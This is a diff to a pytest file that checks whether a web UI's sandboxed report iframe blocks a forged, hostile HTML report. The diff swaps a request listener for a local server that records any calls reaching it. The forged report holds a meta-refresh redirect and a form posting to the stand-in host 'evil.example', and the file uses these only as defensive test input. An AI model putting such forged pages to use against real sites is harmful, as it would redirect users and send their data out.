@@ -7,7 +7,9 @@ import subprocess
 import sys
 import time
 from contextlib import ExitStack
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 
 import psutil
 import pytest
@@ -314,7 +316,7 @@ def test_started_killed_recognised_stopped_resumed_and_reported(tiny, tmp_path, 
     assert overview(results).finished
     assert {path: path.stat().st_mtime_ns for path in kept} == kept  # finished work was not done again
     tab.press("report_show")
-    frame = tab.page.frame_locator("#exp_report iframe").frame_locator("iframe")
+    frame = tab.page.frame_locator("#exp_report iframe")
     assert frame.locator("h1").inner_text() == TITLE
     assert LABEL in frame.locator("main").inner_text()
     assert tab.page.get_attribute("#exp_report iframe", "sandbox") == ""
@@ -346,6 +348,28 @@ FORGED = """<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url
 <form action="https://evil.example/form"><button id="send">send</button></form></body></html>"""
 
 
+class Asked(BaseHTTPRequestHandler):
+    """Notes what is asked for."""
+
+    def do_GET(self):
+        self.server.asked.append(self.path)
+        self.send_response(404)
+        self.end_headers()
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def evil():
+    """A server that a forged report wants to reach; what a browser refuses to send does not come to it."""
+    with ThreadingHTTPServer(("127.0.0.1", 0), Asked) as server:
+        server.url, server.asked = f"http://127.0.0.1:{server.server_port}", []
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
 def made_results(results: Path) -> None:
     """Write results of four variants, of which one run failed, with their report."""
     definition, runs = make(results, ["dpo", "ledpo", "orpo", "mix50"], [1, 2], failed=(("orpo", 2),))
@@ -361,7 +385,7 @@ def made_results(results: Path) -> None:
 
 
 @pytest.mark.timeout(600)
-def test_languages_reports_and_refusals(tiny, tmp_path, begin, browser):
+def test_languages_reports_and_refusals(tiny, tmp_path, begin, browser, evil):
     """Everything that needs no run: five languages, a hostile report, a broken experiment, folders of any name."""
     cwd = tmp_path / "cwd"
     for name in ("broken", "forged", "made"):
@@ -370,12 +394,10 @@ def test_languages_reports_and_refusals(tiny, tmp_path, begin, browser):
     write_experiment(cwd / "else where" / NAME, tiny)
     for name in ("forged", "made"):
         made_results(cwd / "runs/experiments" / name / "cpu")
-    (cwd / "runs/experiments/forged/cpu/report.html").write_text(FORGED)
+    (cwd / "runs/experiments/forged/cpu/report.html").write_text(FORGED.replace("https://evil.example", evil.url))
     ui = begin(cwd, tmp_path / "cache")
     tab = Tab(browser, ui)
     page = tab.page
-    requests = []
-    page.on("request", lambda request: requests.append(request.url))
 
     tab.choose("made")
     tab.until("failed")
@@ -396,7 +418,7 @@ def test_languages_reports_and_refusals(tiny, tmp_path, begin, browser):
         assert page.input_value("#exp_name input") == "made"
 
     tab.press("report_show")
-    frame = page.frame_locator("#exp_report iframe").frame_locator("iframe")
+    frame = page.frame_locator("#exp_report iframe")
     assert frame.locator("h1").inner_text() == "Loss variants"
     assert HOSTILE[0] in frame.locator("#texts").inner_text()
     frame.locator("nav a").last.click()  # to a place in the report, not out of it
@@ -414,9 +436,9 @@ def test_languages_reports_and_refusals(tiny, tmp_path, begin, browser):
     frame.locator("#out").click()
     page.wait_for_timeout(500)
     assert page.url == f"{ui.url}/"
-    assert [url for url in requests if "evil" in url] == []
+    assert evil.asked == []
     assert page.evaluate("typeof hit") == "undefined"
-    refused = [message for message in tab.messages if "evil.example" in message or "about:srcdoc" in message]
+    refused = [message for message in tab.messages if evil.url in message or "about:srcdoc" in message]
     assert refused == tab.messages  # the browser says what it refused, and nothing else
     tab.messages.clear()
 
